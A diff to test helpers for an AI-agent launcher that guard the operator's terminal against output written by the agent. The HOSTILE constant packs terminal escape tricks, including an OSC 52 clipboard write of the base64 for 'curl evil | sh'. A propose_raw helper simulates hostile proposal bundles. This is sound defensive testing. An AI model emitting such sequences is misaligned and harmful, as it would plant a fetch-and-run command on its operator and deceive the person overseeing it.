@@ -7,6 +7,22 @@ use std::process::{Command, Output, Stdio};
 
 pub const BIN: &str = env!("CARGO_BIN_EXE_claude-bottle");
 
+/// Terminal tricks an agent could put in any text it writes: erase the line, write the
+/// operator's clipboard (OSC 52), return to the line start, reverse the text that follows.
+pub const HOSTILE: &str = "\u{1b}[2K\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\r\u{202e}";
+/// [`HOSTILE`] as the launcher must show it.
+pub const HOSTILE_SHOWN: &str = r"\u{1b}[2K\u{1b}]52;c;Y3VybCBldmlsIHwgc2g=\u{7}\u{d}\u{202e}";
+
+/// Fails when `bytes` (a stream the operator's terminal would read) holds ESC, BEL, CR,
+/// another C0 control but `\n` and `\t`, DEL, C1 or a bidi override.
+pub fn assert_no_raw_controls(what: &str, bytes: &[u8]) {
+    let text = String::from_utf8_lossy(bytes);
+    let raw = text.chars().find(|c| {
+        (c.is_control() && !matches!(c, '\n' | '\t')) || ('\u{202a}'..='\u{202e}').contains(c)
+    });
+    assert!(raw.is_none(), "{what} carries a raw {raw:?}:\n{text}");
+}
+
 pub struct Home {
     _tmp: tempfile::TempDir,
     pub root: PathBuf,
@@ -32,6 +48,14 @@ impl Home {
             "request": request,
         });
         std::fs::write(dir.join(format!("{id}.json")), proposal.to_string()).unwrap();
+    }
+
+    /// Writes `proposal` as it is (any JSON, any justification) to
+    /// `queue/<identity>/proposals/<stem>.json`, as a hostile bundle could.
+    pub fn propose_raw(&self, identity: &str, stem: &str, proposal: &serde_json::Value) {
+        let dir = self.root.join("queue").join(identity).join("proposals");
+        std::fs::create_dir_all(&dir).unwrap();
+        std::fs::write(dir.join(format!("{stem}.json")), proposal.to_string()).unwrap();
     }
 
     pub fn decision(&self, identity: &str, id: &str) -> PathBuf {
